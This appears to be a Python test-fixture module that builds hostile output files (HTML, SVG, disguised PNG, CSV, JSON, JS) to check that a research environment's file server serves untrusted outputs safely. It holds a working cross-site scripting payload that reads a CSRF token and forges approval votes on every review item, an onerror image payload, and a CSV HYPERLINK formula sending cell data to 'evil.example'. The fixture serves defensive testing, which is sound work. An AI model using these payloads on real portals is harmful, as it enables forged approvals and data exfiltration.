"""Files a hostile script or researcher could leave for the output checkers to open.

Each payload, if a browser ever ran it, would log `PAYLOAD_MARK`, set the title to it,
open an alert, call `beacon_path` on the portal and cast the checker's approvals, as
the `chart.html` of the incident did (see tre/files.py).
"""

import json
import struct
import zlib

PAYLOAD_MARK = "PAYLOAD-RAN"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def script(beacon_path: str = "/beacon/") -> str:
    """JavaScript that announces itself everywhere it can, then approves every item."""
    return f"""
console.log("{PAYLOAD_MARK}");
document.title = "{PAYLOAD_MARK}";
fetch("{beacon_path}?from=" + encodeURIComponent(location.pathname));
alert("{PAYLOAD_MARK}");
(async () => {{
  const base = location.pathname.replace(/(items|supporting)\\/\\d+\\/?$/, "");
  const page = await (await fetch(base)).text();
  const token = page.match(/name="csrfmiddlewaretoken" value="([^"]+)"/)[1];
  for (const match of page.matchAll(/name="item" value="(\\d+)"/g)) {{
    await fetch(base + "vote/", {{method: "POST", body: new URLSearchParams(
      {{csrfmiddlewaretoken: token, item: match[1], decision: "approve"}})}});
  }}
  await fetch(base + "submit_review/", {{method: "POST",
    body: new URLSearchParams({{csrfmiddlewaretoken: token}})}});
}})();
"""


def html(beacon_path: str = "/beacon/") -> bytes:
    return f"<!doctype html><title>chart</title><script>{script(beacon_path)}</script>".encode()


def svg(beacon_path: str = "/beacon/") -> bytes:
    code = script(beacon_path).replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{code}">'
        f"<script>{script(beacon_path).replace('<', '&lt;')}</script><rect/></svg>"
    ).encode()


def png(text_chunk: bytes = b"") -> bytes:
    """A real 1x1 PNG, with a tEXt chunk holding `text_chunk` if given."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    chunks = [chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))]
    if text_chunk:
        chunks.append(chunk(b"tEXt", b"Comment\x00" + text_chunk))
    chunks += [chunk(b"IDAT", zlib.compress(b"\x00\x00")), chunk(b"IEND", b"")]
    return PNG_SIGNATURE + b"".join(chunks)


def outputs(beacon_path: str = "/beacon/") -> list[tuple[str, str, str, bytes]]:
    """(name, type, filename, content) of every kind of hostile output."""
    tag = f"<script>{script(beacon_path)}</script>".encode()
    return [
        ("chart", "figure", "chart.html", html(beacon_path)),
        ("chart_svg", "figure", "chart.svg", svg(beacon_path)),
        ("chart_named_png", "figure", "chart_named.png", html(beacon_path)),
        ("notes", "text", "notes.txt", b"Results\n" + tag),
        ("wards", "table", "wards.csv",
         b'ward,n\n"=HYPERLINK(""http://evil.example/?""&A1,""open"")",12\n'
         + b'"' + tag.replace(b'"', b'""') + b'",15\n'),
        ("figure", "figure", "figure.png", png(html(beacon_path))),
        ("summary", "metric", "summary.json",
         json.dumps({"value": "<img src=x onerror=alert(1)>" + tag.decode()}).encode()),
        ("helper", "file", "helper.js", script(beacon_path).encode()),
    ]  # fmt: skip


# What tre.files must serve each output as, by its filename: by content, never by name.
SERVED_AS = {
    "chart.html": "application/octet-stream",
    "chart.svg": "application/octet-stream",
    "chart_named.png": "application/octet-stream",
    "notes.txt": "text/plain; charset=utf-8",
    "wards.csv": "text/csv; charset=utf-8",
    "figure.png": "image/png",
    "summary.json": "text/plain; charset=utf-8",
    "helper.js": "application/octet-stream",
}


def supporting_files(beacon_path: str = "/beacon/") -> list[tuple[str, bytes]]:
    """(name, content) of hostile supporting files, uploaded by the requester."""
    return [("codebook.html", html(beacon_path)), ("diagram.svg", svg(beacon_path))]
